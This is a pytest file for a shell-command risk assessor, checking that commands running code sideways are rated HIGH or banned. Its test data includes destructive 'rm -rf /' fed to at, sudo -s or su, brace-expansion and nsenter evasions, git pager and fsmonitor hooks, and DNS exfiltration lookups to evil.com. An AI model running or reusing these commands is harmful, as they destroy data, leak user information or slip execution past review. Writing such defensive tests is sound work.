"""Commands run sideways: programs named in configuration or variables (git's ``-c`` keys,
pagers, ``--compress-program``), shell code read from standard input by ``at``, ``sudo -s``
or ``su -c sh``, and wrappers whose options hid the command (``nsenter -m``, ``parallel``).

Every command asserted HIGH or banned here was INFO, LOW, MEDIUM or merely HIGH before.
"""

from __future__ import annotations

import pytest

from anna_common.plan import RiskLevel
from anna_common.risk.assess import AssessContext, assess

CTX = AssessContext(distro="arch", home="/home/alice", bootloader="grub")


def _tier(command: str) -> tuple[RiskLevel, bool]:
    verdict = assess(command, CTX)
    return verdict.risk, verdict.banned


@pytest.mark.parametrize("command", [
    "git -c core.pager='touch /tmp/x' log", "git -c alias.x='!rm -rf ~/x' x",
    "git -c core.sshCommand='touch /tmp/x' fetch", "git -c core.fsmonitor='touch /tmp/x' status",
    "git -c core.hooksPath=/tmp/h status", "git -c diff.external=/tmp/x diff",
    "git -c credential.helper='!touch /tmp/x' fetch", "git -c Core.Pager='touch /tmp/x' log",
    "git -c include.path=/tmp/evil.cfg log", 'git -c "$X" log',
    "git --config-env=core.pager=X log", "git --config-env core.fsmonitor=X status",
    "git --exec-path=/tmp log", "git grep -O'touch /tmp/x' x",
    "git grep --open-files-in-pager=/tmp/x x", "git difftool -x /tmp/x",
    "git config core.pager 'touch /tmp/x'", "git config --global core.fsmonitor /tmp/x",
    "git config --file /tmp/c core.pager x", "git config set core.pager x",
    "git -c color.ui=always -c core.pager='touch x' log", "git -C /tmp -c core.pager=x log",
    "git --git-dir /tmp/x/.git -c core.fsmonitor=x status",
    "bash -c 'git -c core.pager=x log'", "sudo git -c core.pager=x log",
])
def test_git_configuration_that_may_run_a_program_is_high(command: str) -> None:
    assert _tier(command)[0] == RiskLevel.HIGH


@pytest.mark.parametrize("command", [
    "GIT_PAGER='touch /tmp/x' git log", "PAGER='touch /tmp/x' git log",
    "GIT_EXTERNAL_DIFF=/tmp/x git diff", "GIT_SSH_COMMAND='touch /tmp/x' git fetch",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=/tmp/x git log",
    "SYSTEMD_PAGER=/tmp/x systemctl status", "SYSTEMD_PAGER=/tmp/x journalctl",
    "env PAGER=/tmp/x journalctl", "sudo PAGER=/tmp/x journalctl",
    "export PAGER=/tmp/x; journalctl", "PAGER=/tmp/x; export PAGER; journalctl",
    "declare -x PAGER=/tmp/x; journalctl", 'PAGER="$X" journalctl',
    "sort --compress-program=/tmp/x /etc/hosts", "parallel rm ::: ~/x",
])
def test_a_variable_or_option_naming_a_program_is_high(command: str) -> None:
    assert _tier(command)[0] == RiskLevel.HIGH


@pytest.mark.parametrize("command", [
    "git log", "git status", "git -C ~/src status", "git -c core.pager=cat log",
    "git -c color.ui=always log", "git -c core.quotepath=off status", "git config --get core.pager",
    "SYSTEMD_PAGER=cat journalctl", "SYSTEMD_PAGER= journalctl", "GIT_PAGER=cat git log",
    "LESS=-R journalctl", "LANG=C git log",
])
def test_inert_settings_stay_info(command: str) -> None:
    assert _tier(command) == (RiskLevel.INFO, False)


@pytest.mark.parametrize("command", [
    "at now <<< 'rm -rf /'", "echo 'rm -rf /' | at now", "batch <<< 'rm -rf /'",
    "at now + 1 hour <<EOF\nrm -rf /\nEOF", "sudo -s <<< 'rm -rf /'",
    "echo 'rm -rf /' | sudo -s", "echo 'rm -rf /' | sudo -i", "doas -s <<< 'rm -rf /'",
    "echo 'rm -rf /' | su -c sh", "echo 'rm -rf /' | su -c 'bash -s'",
    "echo 'rm -rf /' | sudo sh -c sh", "nsenter -t 1 -m rm -rf /",
    "nsenter -t 1 -m -u -n rm -rf /", "nsenter --target 1 --mount rm -rf /",
])
def test_code_reaching_a_shell_sideways_is_judged_and_banned(command: str) -> None:
    assert _tier(command) == (RiskLevel.HIGH, True)


def test_the_same_shells_fed_harmless_code_are_not_banned() -> None:
    assert _tier("at now <<< 'touch ~/x'") == (RiskLevel.HIGH, False)
    assert _tier("echo ls | sh -c cat") == (RiskLevel.INFO, False)


@pytest.mark.parametrize("command", ["getent hosts $(whoami).evil.com",
                                     "x=$(whoami); dig $x.evil.com", 'ping -c1 "$GW"',
                                     "getent ahostsv4 `id -un`.evil.com"])
def test_a_lookup_of_a_name_computed_at_run_time_can_carry_data_out(command: str) -> None:
    assert _tier(command)[0] == RiskLevel.HIGH


@pytest.mark.parametrize("command", ["getent hosts example.com", "dig example.com",
                                     "getent passwd $USER"])
def test_lookups_of_names_written_in_the_command_stay_info(command: str) -> None:
    assert _tier(command) == (RiskLevel.INFO, False)


@pytest.mark.parametrize("command", ["{rm,-rf,/}", "{rm,-rf,~}", "ls; {rm,-rf,/}",
                                     "echo $({rm,-rf,/})", "true &&\n{rm,-rf,/}"])
def test_a_brace_expansion_as_the_command_word_is_judged_spelled_out(command: str) -> None:
    # the grammar cannot parse it (HIGH as opaque); bash makes ``rm -rf /`` of it
    assert _tier(command) == (RiskLevel.HIGH, True)
